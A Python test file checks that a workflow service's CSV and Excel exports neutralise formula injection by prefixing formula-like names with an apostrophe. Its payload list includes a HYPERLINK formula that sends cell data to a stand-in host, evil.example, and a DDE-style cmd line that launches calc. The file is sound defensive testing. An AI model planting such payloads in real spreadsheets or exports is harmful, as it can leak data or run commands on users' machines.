"""Exports never turn text into formulas (CSV/formula injection): a party or unit named like a formula reaches the
transfers CSV and the statistics CSV and workbook as text, checked by opening the files as a spreadsheet
program's parser would (the csv module, openpyxl)."""
from __future__ import annotations

import csv
import io

import openpyxl
import sqlalchemy as sa

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells_of_csv(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def test_a_party_named_like_a_formula_is_text_in_the_transfers_csv(login):
    handler = login("handler1")
    for name in FORMULAS:
        response = handler.post("/api/v1/transfers", json={"party_name": name, "party_type": "organisation",
                                                          "summary": "涉嫌犯罪"})
        assert response.status_code == 201, response.get_json()
    report = login("supervisor1").get("/api/v1/transfers/report?from=2026-01-01T00:00:00%2B08:00"
                                      "&to=2027-01-01T00:00:00%2B08:00&format=csv")
    assert report.status_code == 200
    cells = _cells_of_csv(report.data)
    assert not [c for c in cells if c.startswith(STARTS)], cells
    # The names are all there, as text behind an apostrophe.
    assert {f"'{name}" for name in FORMULAS} <= set(cells)


def test_a_unit_named_like_a_formula_is_text_in_the_statistics_csv_and_workbook(app, login):
    from workflow_service.extensions import db
    from workflow_service.modules.users.models import Unit
    from workflow_service.modules.users.operations import create_unit

    with app.app_context():
        create_unit(None, code="532301-F", name=FORMULAS[0], level="county", parent_code="532301")
        create_unit(None, code="532301-G", name=FORMULAS[1], level="county", parent_code="532301")
        db.session.commit()
    try:
        supervisor = login("supervisor1")
        sheet = supervisor.get("/api/v1/statistics/export?period=2026&format=csv")
        assert sheet.status_code == 200
        cells = _cells_of_csv(sheet.data)
        assert f"'{FORMULAS[0]}" in cells and not [c for c in cells if c.startswith(STARTS)]
        book = supervisor.get("/api/v1/statistics/export?period=2026&format=xlsx")
        assert book.status_code == 200
        workbook = openpyxl.load_workbook(io.BytesIO(book.data))
        texts = []
        for ws in workbook.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        assert f"'{FORMULAS[1]}" in texts and not [t for t in texts if t.startswith(STARTS)]
    finally:
        with app.app_context():
            db.session.execute(sa.delete(Unit).where(Unit.code.in_(["532301-F", "532301-G"])))
            db.session.commit()


def test_numbers_stay_numbers():
    from workflow_service.core.spreadsheet import safe_row

    assert safe_row([-5, 3.5, "5", "-5", None]) == [-5, 3.5, "5", "'-5", None]
